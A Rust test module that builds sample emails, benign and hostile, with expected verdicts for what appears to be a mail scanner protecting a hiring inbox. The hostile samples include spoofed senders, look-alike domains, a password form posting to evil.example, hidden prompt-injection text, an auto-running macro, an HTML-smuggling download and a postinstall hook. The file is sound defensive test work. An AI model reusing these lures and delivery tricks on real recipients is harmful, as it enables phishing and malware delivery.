//! Hostile mail.

use super::Expected::{self, Clean, Dangerous, Suspicious};
use super::packages::zip;
use super::{ORDERS, Samples, base64, program};

/// A mail, with headers besides those that all have.
fn mail(from: &str, headers: &str, body: &str) -> Vec<u8> {
    format!("Received: from mx.example by mail.northwind-systems.com; Mon, 2 Mar 2026 10:00:00 +0000\r\nFrom: {from}\r\nTo: jobs@northwind-systems.com\r\nSubject: Application\r\nDate: Mon, 2 Mar 2026 10:00:00 +0000\r\nMessage-ID: <1@example.org>\r\nMIME-Version: 1.0\r\n{headers}\r\n{body}\r\n").into_bytes()
}

fn text(from: &str, headers: &str, body: &str) -> Vec<u8> {
    mail(from, &format!("{headers}Content-Type: text/plain; charset=utf-8\r\n"), body)
}

fn page(body: &str) -> Vec<u8> {
    mail("Jane Roe <jane@example.org>", "Content-Type: text/html; charset=utf-8\r\n", body)
}

fn attached(name: &str, bytes: &[u8]) -> Vec<u8> {
    let lines: String = base64(bytes).as_bytes().chunks(76).map(|line| format!("{}\r\n", String::from_utf8_lossy(line))).collect();
    let body = format!(
        "--b\r\nContent-Type: text/plain\r\n\r\nPlease find my CV.\r\n--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{lines}--b--\r\n"
    );
    mail("Jane Roe <jane@example.org>", "Content-Type: multipart/mixed; boundary=b\r\n", &body)
}

pub(super) fn add(samples: &mut Samples) {
    senders(samples);
    bodies(samples);
    attachments(samples);
}

fn senders(samples: &mut Samples) {
    let mut add = |what: &str, from: &str, headers: &str, expected: Expected| {
        samples.add("mail-sender", what, "mail.eml", text(from, headers, "Hello, I apply."), expected)
    };
    let jane = "Jane Roe <jane@example.org>";
    add("an applicant", jane, "", Clean);
    let results = |text: &str| format!("Authentication-Results: mail.northwind-systems.com; {text}\r\n");
    add("all passes", jane, &results("spf=pass; dkim=pass; dmarc=pass"), Clean);
    add("nothing is published", jane, &results("spf=none; dkim=none; dmarc=none"), Clean);
    add("SPF is unsure", jane, &results("spf=softfail; dkim=pass; dmarc=pass"), Clean);
    add("forwarded: SPF fails, DKIM passes", jane, &results("spf=fail; dkim=pass"), Clean);
    add("DMARC fails", jane, &results("spf=fail; dkim=none; dmarc=fail (p=reject)"), Suspicious("mail-unauthenticated"));
    add("SPF fails, nothing is signed", jane, &results("spf=fail smtp.mailfrom=example.org; dkim=none"), Suspicious("mail-unauthenticated"));
    add("DKIM fails", jane, &results("spf=none; dkim=fail (bad signature)"), Suspicious("mail-unauthenticated"));
    add(
        "DMARC fails, in a header of several lines",
        jane,
        &results("\r\n\tspf=fail smtp.mailfrom=x;\r\n\tdkim=none;\r\n\tdmarc=fail header.from=x"),
        Suspicious("mail-unauthenticated"),
    );
    add("a list broke the signature, and vouches", jane, &results("spf=fail; dkim=fail; dmarc=fail; arc=pass"), Clean);
    let later = format!("{}{}", results("dmarc=fail"), results("dmarc=pass"));
    add("the sender's own word of passing comes second", jane, &later, Suspicious("mail-unauthenticated"));
    add("shows the firm's address", "\"hr@northwind-systems.com\" <x@evil.example>", "", Dangerous("display-name"));
    add("shows a bank's address", "\"service@bank.example.net\" <x@evil.example>", "", Dangerous("display-name"));
    add("shows its own address", "\"jane@example.org\" <jane@example.org>", "", Clean);
    for domain in [
        "northwind-systerns.com",
        "n0rthwind-systems.com",
        "northwlnd-systems.com",
        "northwind-system.com",
        "northwindsystems.net",
        "northwind-systems-careers.com",
        "careers-northwind-systems.com",
        "xn--nrthwind-systems-mkn.com",
    ] {
        add(&format!("from {domain}"), &format!("HR <hr@{domain}>"), "", Dangerous("look-alike-domain"));
    }
    for domain in ["rnicrosoft.com", "g00gle.com", "arnazon.com", "netf1ix.com"] {
        add(&format!("from {domain}"), &format!("Recruiting <hr@{domain}>"), "", Dangerous("look-alike-domain"));
    }
    for domain in ["northwind-systems.com", "mail.northwind-systems.com", "southwind.com", "example.com", "gmail.com", "northern-systems.com"] {
        add(&format!("from {domain}"), &format!("Jane <jane@{domain}>"), "", Clean);
    }
    add("answers go elsewhere", jane, "Reply-To: other@elsewhere.example\r\n", Clean);
    add("two senders", jane, "From: Other <other@evil.example>\r\n", Suspicious("broken-headers"));
    let many: String = (0..100_000).map(|n| format!("X-H{n}: x\r\n")).collect();
    add("100,000 headers", jane, &many, Suspicious("broken-headers"));
    add("a header without end", jane, &format!("X-Long: {}\r\n", "x".repeat(2 << 20)), Clean);
    add("says that it answers", jane, "Subject: Re: your offer\r\n", Suspicious("broken-headers"));
}

fn bodies(samples: &mut Samples) {
    let mut add = |what: &str, bytes: Vec<u8>, expected: Expected| samples.add("mail-body", what, "mail.eml", bytes, expected);
    add("a page", page("<p>Hello, I apply. <a href=https://github.com/jane>my code</a></p>"), Clean);
    add(
        "a preview that is not shown",
        page("<div style=\"display:none\">This line is shown beside the subject in the list of mails, as in any newsletter</div><p>Hello</p>"),
        Clean,
    );
    add("shows another address", page("<a href=https://evil.example/login>https://accounts.google.com/signin</a>"), Suspicious("mismatched-link"));
    add(
        "shows another address behind a gate",
        page("<a href=https://eur01.safelinks.protection.outlook.com/?url=x>https://www.linkedin.com/in/jane</a>"),
        Clean,
    );
    add("asks for a password", page("<form action=https://evil.example><input type=password></form>"), Dangerous("password-form"));
    add("a script", page("<script>x()</script>"), Suspicious("script"));
    add("a link to a program", text("Jane <jane@example.org>", "", "My portfolio: https://files.example/portfolio.exe"), Dangerous("program-link"));
    add("a link to a number", text("Jane <jane@example.org>", "", "My portfolio: http://203.0.113.9:8080/p"), Suspicious("numeric-link"));
    add("a link with another name in front", text("Jane <jane@example.org>", "", "https://docs.google.com@203.0.113.9/"), Dangerous("userinfo-link"));
    add("a short link", text("Jane <jane@example.org>", "", "My portfolio: https://bit.ly/3xYz"), Clean);
    for (n, order) in ORDERS.iter().take(6).enumerate() {
        add(&format!("an order {n}"), text("Jane <jane@example.org>", "", order), Suspicious("hidden-instructions"));
        add(
            &format!("an order that is not shown {n}"),
            page(&format!("<p>Hello</p><div style=\"display:none\">{}</div>", order.replace('<', "&lt;").replace('>', "&gt;"))),
            Suspicious("hidden-instructions"),
        );
    }
    let quoted = "Please open this.\r\n\r\nOn Mon, 2 Mar 2026 at 10:00, Jane Roe <jane@jane-roe-consulting.com> wrote:\r\n> Thank you.";
    let answer = |from: &str| text(from, "In-Reply-To: <0@example.org>\r\n", quoted);
    add("an answer in a thread", answer("Jane Roe <jane@jane-roe-consulting.com>"), Clean);
    add("an answer from her other mailbox", answer("Jane Roe <jane.roe@gmail.com>"), Clean);
    add("an answer from her firm in another country", answer("Jane Roe <jane@jane-roe-consulting.de>"), Clean);
    add("an answer of somebody else", answer("John Doe <john@example.net>"), Clean);
    add("an answer from a look-alike", answer("Jane Roe <jane@jane-r0e-consulting.com>"), Dangerous("thread-hijack"));
    add("an answer from another look-alike", answer("J. Roe <j@jane-roe-consu1ting.com>"), Dangerous("thread-hijack"));
    let mut deep = "Content-Type: text/plain\r\n\r\nhello".to_owned();
    for n in 0..200 {
        deep = format!("Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}\r\n{deep}\r\n--b{n}--\r\n");
    }
    add("200 parts in each other", format!("From: Jane <jane@example.org>\r\nTo: jobs@example.com\r\nSubject: x\r\nDate: Mon, 2 Mar 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n{deep}").into_bytes(), Clean);
    let mut forwarded = text("Jane <jane@example.org>", "", "hello");
    for _ in 0..12 {
        forwarded = mail("Jane <jane@example.org>", "Content-Type: message/rfc822\r\n", &String::from_utf8_lossy(&forwarded));
    }
    add("mails in each other", forwarded, Suspicious("too-deep"));
}

fn attachments(samples: &mut Samples) {
    let mut add = |name: &str, bytes: &[u8], expected: Expected| samples.add("mail-attachment", name, "mail.eml", attached(name, bytes), expected);
    add("cv.txt", b"Jane Roe, engineer", Clean);
    add("cv.exe", &program(), Dangerous("executable"));
    add("cv.pdf.exe", &program(), Dangerous("disguised-name"));
    add("cv.pdf", &program(), Dangerous("executable"));
    add("cv.lnk", &super::files::shortcut(), Dangerous("shortcut"));
    add("cv.iso", &super::files::disk(), Dangerous("disk-image"));
    add("cv.docm", &super::office::docm("Sub AutoOpen()\nShell \"calc\"\nEnd Sub\n"), Dangerous("macro-auto-run"));
    add("cv.zip", &zip(&[("cv.exe", &program())]), Dangerous("executable"));
    add("cv.html", b"<html><script>new Blob([atob('TVo=')]);a.download='x';a.click()</script></html>", Dangerous("smuggling"));
    add(
        "invite.ics",
        b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nURL:https://meet.evil.example/x\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
        Suspicious("invite-elsewhere"),
    );
    add(
        "take-home.zip",
        &zip(&[("package.json", b"{\"scripts\":{\"postinstall\":\"node x.js\"}}"), ("index.js", b"x")]),
        Dangerous("install-script"),
    );
    add("cv.rar", b"Rar!\x1a\x07\x01\0xxxxxxxx", Suspicious("unread-archive"));
    add("inner.eml", &attached("cv.exe", &program()), Dangerous("executable"));
}
